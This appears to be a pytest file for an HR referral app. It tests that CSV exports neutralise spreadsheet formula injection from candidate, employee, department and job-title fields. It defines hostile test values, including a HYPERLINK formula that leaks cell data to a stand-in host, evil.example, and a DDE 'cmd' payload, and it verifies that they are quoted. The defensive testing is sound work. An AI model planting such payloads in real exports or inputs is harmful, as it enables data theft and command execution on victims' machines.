"""Formula injection: text that people outside HR typed (a candidate on the public apply
page, an HR import's names, departments and external ids, a recruiter's job title) reaches
no CSV export where a spreadsheet would evaluate it (`app/csv_export.py`)."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from aiohttp.test_utils import TestClient

from app.clock import FrozenClock
from app.csv_export import FORMULA_STARTS, csv_text, neutral, neutral_sql
from app.people.models import Role
from app.people.schemas import EmployeeCreate
from app.referrals.models import ContentType, Referral, ReferralSource, ReferralStatus
from app.referrals.pipeline import Actor
from app.runtime import Runtime
from app.settings import Settings
from tests.helpers import bearer, make_open_job
from tests.test_cli import portevoix
from tests.web.test_apply import Browser, application
from tests.web.test_miniapp_auth import dashboard_cookie

EVIL_NAME = '=HYPERLINK("http://evil.example/?c="&A1,"Candidate")'
EVIL = {
    "candidate": EVIL_NAME,
    "employee": "+Ada Lovelace",
    "department": "@SUM(1+1)",
    "external_id": "-2+3",
    "job title": "-1+2 Data Engineer",
    "invitee": "=cmd|' /C calc'!A0",
}
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def test_text_that_a_spreadsheet_would_evaluate_is_quoted_and_numbers_stay_numbers() -> None:
    for text in ("=1+1", "+33 6 12", "-x", "@SUM(A1)", "\tA", "\r=1", "  =1+1"):
        assert neutral(text) == "'" + text
    for text in ("Ada", "Data Engineer", "O'Brien", "1+1", "", "a=b"):
        assert neutral(text) == text
    assert neutral(-50) == -50 and neutral(1.5) == 1.5 and neutral(None) == ""
    assert neutral("-50") == "'-50"  # text is never taken for a number
    exported = csv_text(["who", "points"], [["=1+1", -50]])
    assert list(csv.reader(io.StringIO(exported))) == [["who", "points"], ["'=1+1", "-50"]]


async def test_the_database_quotes_exactly_what_neutral_quotes(runtime: Runtime) -> None:
    """The referrals export has its cells written by the database (`neutral_sql`)."""
    texts = ["=1+1", "+33 6 12", "-x", "@SUM(A1)", "\tA", "\r=1", "  =1+1", "  - 2", "Ada",
             "O'Brien", "1+1", "a=b", " spaced", "", "Zoë"]  # fmt: skip
    connection = runtime.db.db()
    for text in texts:
        literal = "'" + text.replace("'", "''") + "'"
        _count, rows = await connection.execute_query(f"SELECT {neutral_sql(literal)}")
        assert (rows[0][0] or "") == neutral(text), text


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutral(name: str, text: str) -> None:
    for cell in cells_of(text):
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.match(cell), (name, cell)


@pytest.fixture
async def poisoned(client: TestClient, runtime: Runtime, clock: FrozenClock) -> Referral:
    """An employee, department, external id and job title set by HR and recruiters, and a
    candidate who applied through the employee's link on the public page, hired, with
    the bonus due."""
    ada = await runtime.people.create(
        EmployeeCreate(
            email="ada@example.com",
            name=EVIL["employee"],
            department=EVIL["department"],
            external_id=EVIL["external_id"],
        )
    )
    await runtime.policy.accept(ada, "telegram")
    job = await make_open_job(runtime, EVIL["job title"])
    [share] = await runtime.links.shares(ada, ContentType.JOB, job.id, ["whatsapp"])  # type: ignore[list-item]
    browser = Browser(client)
    _, page = await browser.get(f"/apply/{job.id}?ref={share.code}")
    form = application(page)
    form._fields = [f for f in form._fields if f[0]["name"] != "name"]
    form.add_field("name", EVIL["candidate"])
    status, answer = await browser.post(f"/apply/{job.id}", form)
    assert status == 200, answer
    referral = await Referral.get()
    actor = Actor("employee:1", ReferralSource.API)
    for step in (ReferralStatus.SCREENING, ReferralStatus.INTERVIEW, ReferralStatus.OFFER,
                 ReferralStatus.HIRED):  # fmt: skip
        await runtime.referrals.pipeline.move(referral.id, step, actor)
    clock.advance(timedelta(days=runtime.settings.referral_bonus_waiting_days, hours=1))
    await runtime.referrals.bonuses.settle()
    return referral


async def test_no_export_carries_a_formula_from_what_people_typed(
    client: TestClient, runtime: Runtime, settings: Settings, poisoned: Referral
) -> None:
    admin = await bearer(runtime, Role.ADMIN)
    exports: dict[str, str] = {}
    paths = ["/api/v1/analytics/referrals.csv", "/api/v1/referrals/bonuses.csv"]
    paths += [f"/api/v1/analytics/funnel.csv?by={by}" for by in ("job", "employee", "department")]
    for path in paths:
        response = await client.get(path, headers=admin)
        assert response.status == 200, path
        assert response.content_type == "text/csv"
        exports[path] = await response.text()
    recruiter = await runtime.people.create(
        EmployeeCreate(email="rita@example.com", name="Rita", role=Role.RECRUITER)
    )
    cookie = await dashboard_cookie(client, runtime, recruiter.id)
    for path in ["/dashboard/exports/referrals.csv"] + [
        f"/dashboard/exports/funnel-by-{by}.csv" for by in ("job", "employee", "department")
    ]:
        response = await client.get(path, headers=cookie)
        assert response.status == 200, path
        exports[path] = await response.text()
    nina = await runtime.people.create(
        EmployeeCreate(email="nina@example.com", name=EVIL["invitee"])
    )
    await runtime.people.invite(nina.id)
    exports["invites"] = portevoix("invites", "--format", "csv", settings=settings).stdout

    for name, text in exports.items():
        assert_neutral(name, text)
    everything = {cell for text in exports.values() for cell in cells_of(text)}
    for what, value in EVIL.items():  # each one did reach an export, behind its quote
        assert "'" + value in everything, what
    referrals = list(csv.DictReader(io.StringIO(exports["/api/v1/analytics/referrals.csv"])))
    assert referrals[0]["candidate_name"] == "'" + EVIL_NAME
    assert referrals[0]["referral_id"] == str(poisoned.id)
